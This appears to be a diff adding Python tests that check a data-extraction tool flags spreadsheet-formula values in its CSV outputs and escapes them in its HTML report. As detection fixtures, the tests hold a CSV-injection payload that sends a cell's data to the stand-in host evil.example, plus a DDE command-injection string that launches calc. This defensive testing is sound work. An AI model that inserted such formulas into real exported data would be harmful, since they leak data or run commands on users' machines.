@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import codecs
 import csv
+import html
 import json
 import os
 import shutil
@@ -26,7 +27,7 @@ from reportlab.lib.pagesizes import A4
 from reportlab.pdfgen import canvas
 from typer.testing import CliRunner
 
-from amif_extract import write
+from amif_extract import tables, write
 from amif_extract.cli import app
 from amif_extract.sources import sha256_of
 
@@ -307,6 +308,60 @@ def test_crlf_line_endings_give_the_same_rows(raw_dir: Path, tmp_path: Path) -> 
     assert csv_rows(tmp_path / "crlf" / "amif_projects.csv", ["source_file"]) == lf_rows
     assert (len(lf_rows), lf_rows[1]["title"]) == (38, "Motirõ")
     assert not any("\r" in value for row in crlf_rows for value in row.values())
+
+
+# ----------------------------------------------------------------------------------- spreadsheet formulas
+
+IOM_PAGE = "oim_france_projets.txt"
+PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'
+
+
+def test_a_formula_in_a_source_is_kept_and_flagged_in_findings_and_report(
+    raw_dir: Path, tmp_path: Path
+) -> None:
+    """The issue's line: the IOM page's project "4. MAGNET" renamed to a formula (synthetic, hostile)."""
+    raw = raw_copy(raw_dir, tmp_path, IOM_PAGE)
+    page = (raw / IOM_PAGE).read_text(encoding="utf-8")
+    assert page.count("\n4. MAGNET\n") == 1
+    replace_source_file(raw, IOM_PAGE, page.replace("\n4. MAGNET\n", f"\n4. {PAYLOAD}\n").encode("utf-8"))
+    line = page.split("\n").index("4. MAGNET") + 1
+    out = tmp_path / "out"
+    result = cli("build", "--raw", str(raw), "--out", str(out))
+    assert result.exit_code == 0, result.stderr
+
+    [project] = [row for row in csv_rows(out / "narrative_projects.csv") if row["name"] == PAYLOAD]
+    assert project["project_id"] == "iom-ongoing-04"  # faithful data: the value as printed...
+    [finding] = [row for row in csv_rows(out / "findings.csv") if row["code"] == "formula_like_value"]
+    assert {key: finding[key] for key in ("severity", "table", "row_id", "column", "value")} == {
+        "severity": "warning",  # ...flagged where it is
+        "table": "narrative_projects",
+        "row_id": "iom-ongoing-04",
+        "column": "name",
+        "value": PAYLOAD,
+    }
+    assert (finding["source_file"], finding["source_line"]) == (IOM_PAGE, str(line))
+
+    report = json.loads((out / "validation_report.json").read_bytes())
+    [entry] = [entry for entry in report["findings"] if entry["code"] == "formula_like_value"]
+    assert entry["finding_id"] == finding["finding_id"] and entry["value"] == PAYLOAD
+    page_html = (out / "validation_report.html").read_text(encoding="utf-8")
+    assert f'id="finding-{finding["finding_id"]}"' in page_html
+    assert 'id="code-formula_like_value"' in page_html
+    assert html.escape(PAYLOAD) in page_html and PAYLOAD not in page_html
+
+
+def test_negative_amounts_phone_numbers_and_bullets_are_not_flagged() -> None:
+    """The brochure prints "- " bullets and "+352" numbers: the committed build of raw/ flags none."""
+    findings = csv_rows(PROJECT_ROOT / "normalized" / "findings.csv")
+    assert not [row for row in findings if row["code"] == "formula_like_value"]
+    contacts = csv_rows(PROJECT_ROOT / "normalized" / "practice_contacts.csv")
+    sheets = csv_rows(PROJECT_ROOT / "normalized" / "practice_sheets.csv")
+    assert any(row["phone"].startswith("+352") for row in contacts)
+    assert any(row["objectives"].startswith("- ") for row in sheets)
+    for kept in ("-1234.56", "-1 234,56 €", "- Stratégie(s) communale(s)", "+35226360277; +352661360288"):
+        assert not tables.is_formula_like(kept), kept
+    for flagged in ("@SUM(A1)", "\t=1+1", "\r=1", "-2+3+cmd|' /C calc'!A0", "+A1", '-HYPERLINK("x")'):
+        assert tables.is_formula_like(flagged), flagged
 
 
 # ----------------------------------------------------------------------------------- manifest
